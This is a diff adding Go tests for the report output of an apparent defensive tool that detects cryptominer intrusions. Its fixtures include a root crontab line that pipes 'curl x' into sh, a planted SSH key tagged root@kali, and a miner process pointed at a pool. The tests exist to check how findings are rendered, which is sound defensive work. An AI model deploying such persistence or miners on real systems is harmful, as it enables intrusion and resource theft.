@@ -59,3 +59,39 @@ func TestNothingHostileIsWritten(t *testing.T) {
 		}
 	}
 }
+
+// What a line says is not said again, a key is told by its end and its comment, and argv does not repeat the program.
+func TestMembersAreSaidOnce(t *testing.T) {
+	key := "AAAAC3NzaC1lZDI1NTE5AAAAIEv1lK3yv1lK3yv1lK3yv1lK3yv1lK3yv1lK3yv1lK3y"
+	for _, one := range []struct {
+		member deminer.Member
+		want   string
+	}{
+		{deminer.Member{Artifact: deminer.Artifact{Kind: deminer.KindLine, Path: "/etc/crontab", Line: "*/5 * * * * root curl x | sh"}, Detail: "every 5 minutes  curl x | sh"},
+			"/etc/crontab: */5 * * * * root curl x | sh · every 5 minutes"},
+		{deminer.Member{Artifact: deminer.Artifact{Kind: deminer.KindLine, Path: "/k", Line: deminer.Raw("ssh-ed25519 " + key + " root@kali")}, Detail: "login of root"},
+			"/k: ssh-ed25519 AAAA…3yv1lK3y root@kali · login of root"},
+		{deminer.Member{Artifact: deminer.Artifact{Kind: deminer.KindProcess, Proc: deminer.ProcID{PID: 7}, Name: "x"}, Detail: "/opt/x  /opt/x -o pool  0.0 cores"},
+			"process 7 x · /opt/x -o pool"},
+		{deminer.Member{Artifact: deminer.Artifact{Kind: deminer.KindProcess, Proc: deminer.ProcID{PID: 7}, Name: "x"}, Detail: "/opt/x  x  3.8 cores"},
+			"process 7 x · /opt/x · 3.8 cores"},
+	} {
+		var b bytes.Buffer
+		one.member.Role, one.member.Grade = deminer.RoleReturns, deminer.Convicted
+		Page{W: &b, Width: 200}.members(&deminer.Incident{Members: []deminer.Member{one.member}}, deminer.RoleReturns, "Returns", false)
+		if got := strings.TrimSpace(strings.TrimPrefix(strings.TrimSpace(b.String()), "Returns")); got != one.want {
+			t.Errorf("got  %s\nwant %s", got, one.want)
+		}
+	}
+}
+
+// Parts left out for one reason share a line; a place keeps its own.
+func TestGapsAreGrouped(t *testing.T) {
+	var b bytes.Buffer
+	Page{W: &b, Width: 200}.Gaps([]deminer.Gap{
+		{Part: "detect/a", State: deminer.Skipped, Why: "needs a running system"}, {Part: "files", What: "/x", Why: "unreadable"},
+		{Part: "detect/b", State: deminer.Skipped, Why: "needs a running system"}}, true)
+	if want := "    - a, b: needs a running system\n    - files /x: unreadable\n"; !strings.HasSuffix(b.String(), want) {
+		t.Errorf("got\n%s\nwant\n%s", b.String(), want)
+	}
+}
